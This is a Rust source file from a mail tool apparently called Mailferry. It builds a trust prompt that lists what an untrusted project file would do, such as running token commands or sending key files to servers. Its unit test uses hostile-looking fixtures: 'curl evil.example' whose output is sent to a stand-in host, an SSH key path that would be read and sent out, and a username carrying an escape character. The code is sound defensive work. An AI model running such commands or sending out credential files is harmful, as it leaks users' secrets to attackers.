//! Asks whether a project file from elsewhere may do what it would do.

use std::collections::BTreeMap;

use crate::engine::api::command::Command;
use crate::engine::api::snapshot::ProjectView;
use crate::engine::api::user_error::UserError;
use crate::plan::Reach;
use crate::values::Side;
use crate::values::{Credential, Endpoint};

/// Most lines shown; the details have all of them.
const MOST_LINES: usize = 12;
/// Most users named for one server.
const MOST_USERS: usize = 3;

impl ProjectView {
    /// The question whether a project from elsewhere may do what it says; `None` if there is nothing to ask.
    pub fn question_of_trust(&self) -> Option<UserError> {
        unconfirmed(&self.unconfirmed)
    }
}

/// A project that was made or changed elsewhere would do these things; `None` if there is nothing to ask.
pub(in crate::engine) fn unconfirmed(reaches: &[Reach]) -> Option<UserError> {
    if reaches.is_empty() {
        return None;
    }
    let lines = lines(reaches);
    let mut shown: Vec<String> = lines.iter().take(MOST_LINES).map(|line| format!("• {line}")).collect();
    if lines.len() > MOST_LINES {
        shown.push(format!("• and {} more, listed in the details", lines.len() - MOST_LINES));
    }
    let mut question = UserError::new(
        "May this project do the following?",
        format!(
            "It was created on another computer, or changed outside Mailferry. Nothing has been run, read or sent yet. \
             It would:\n{}",
            shown.join("\n")
        ),
    )
    .or(
        "I recognise all of this: continue",
        "This computer remembers your answer and asks again when something changes; on the command line, add --confirm-project",
        Command::ConfirmProject,
    )
    .or("Close the project", "Nothing happens", Command::CloseProject);
    question.details = lines.join("\n");
    Some(question)
}

/// The most dangerous comes first.
fn lines(reaches: &[Reach]) -> Vec<String> {
    let (mut runs, mut reads, mut asks) = (BTreeMap::new(), BTreeMap::new(), Vec::new());
    let mut users: BTreeMap<(Side, &Endpoint), Vec<String>> = BTreeMap::new();
    for reach in reaches {
        match reach {
            Reach::Domain(domain) => asks.push(format!("query DNS and web servers about {domain}")),
            Reach::Resolver(address) => asks.push(format!("use the resolver {}", plain(address))),
            Reach::Certificate { host, port, fingerprint } => {
                asks.push(format!("trust the certificate {fingerprint} at {}:{port}", plain(host)));
            }
            Reach::Server { side, server } => {
                users.entry((*side, server)).or_default();
            }
            Reach::SignIn { side, server, user, way } => {
                let place = server
                    .as_ref()
                    .map_or_else(|| "a server that is not chosen yet".to_owned(), ToString::to_string);
                match &way.credential {
                    Credential::TokenCommand(line) => {
                        let what =
                            format!("run “{}” and send what it prints to {place}", plain(line.as_str()));
                        *runs.entry(what).or_insert(0_usize) += 1;
                    }
                    Credential::TokenFile(path) => {
                        let path = plain(&path.display().to_string());
                        *reads.entry(format!("read {path} and send it to {place}")).or_insert(0) += 1;
                    }
                    Credential::KeyFile(path) => {
                        let path = plain(&path.display().to_string());
                        let what = format!("read the key in {path} and send tokens made with it to {place}");
                        *reads.entry(what).or_insert(0) += 1;
                    }
                    Credential::SignedIn(provider) => {
                        let what = format!("use your sign-in at {provider} and send its tokens to {place}");
                        *reads.entry(what).or_insert(0) += 1;
                    }
                    Credential::Password | Credential::Admin(_) | Credential::AdminByName { .. } => {}
                }
                if let Some(server) = server {
                    let named = match way.admin() {
                        Some(admin) => format!("{} (as {})", plain(user), plain(admin)),
                        None => plain(user),
                    };
                    users.entry((*side, server)).or_default().push(named);
                }
            }
        }
    }
    let counted = |(what, count): (String, usize)| match count {
        1 => what,
        count => format!("{what}, for {count} mailboxes"),
    };
    let mut lines: Vec<String> = runs.into_iter().map(counted).collect();
    lines.extend(reads.into_iter().map(counted));
    lines.extend(users.into_iter().map(|((side, server), users)| {
        let what = match side {
            Side::Source => "read mail at",
            Side::Destination => "write mail at",
        };
        if users.is_empty() {
            format!("{what} {server}")
        } else {
            format!("{what} {server} as {}", some_of(&users))
        }
    }));
    lines.extend(asks);
    lines
}

fn some_of(users: &[String]) -> String {
    let named: Vec<&str> = users.iter().take(MOST_USERS).map(String::as_str).collect();
    match users.len() - named.len() {
        0 => named.join(", "),
        more => format!("{} and {more} more", named.join(", ")),
    }
}

/// Untrusted text on one line.
fn plain(text: &str) -> String {
    text.chars().map(|letter| if letter.is_control() { '␦' } else { letter }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::values::{CommandLine, DomainName, SignInWay};

    #[test]
    fn what_is_run_comes_first_and_nothing_is_left_out() {
        let sign_in = |user: &str, credential| Reach::SignIn {
            side: Side::Source,
            server: Some(Endpoint::parse("imap.evil.example").unwrap()),
            user: user.to_owned(),
            way: SignInWay::with(credential),
        };
        let command = || Credential::TokenCommand(CommandLine::parse("curl evil.example").unwrap());
        let reaches = [
            Reach::Domain(DomainName::parse("weber.example").unwrap()),
            Reach::Resolver("192.0.2.53:53".to_owned()),
            Reach::Server { side: Side::Destination, server: Endpoint::parse("mail.evil.example").unwrap() },
            sign_in("anna", Credential::Password),
            sign_in("ben", Credential::TokenFile("/home/ben/.ssh/id".into())),
            sign_in("carl\u{1b}", command()),
            sign_in("dora", command()),
        ];
        let question = unconfirmed(&reaches).unwrap();
        let lines: Vec<&str> = question.details.lines().collect();
        assert_eq!(
            lines,
            [
                "run “curl evil.example” and send what it prints to imap.evil.example:993, for 2 mailboxes",
                "read /home/ben/.ssh/id and send it to imap.evil.example:993",
                "read mail at imap.evil.example:993 as anna, ben, carl␦ and 1 more",
                "write mail at mail.evil.example:993",
                "query DNS and web servers about weber.example",
                "use the resolver 192.0.2.53:53",
            ]
        );
        assert!(lines.iter().all(|line| question.cause.contains(line)), "{}", question.cause);
        assert_eq!(question.ways_out[0].command, Some(Command::ConfirmProject));
        assert_eq!(unconfirmed(&[]), None);
    }
}
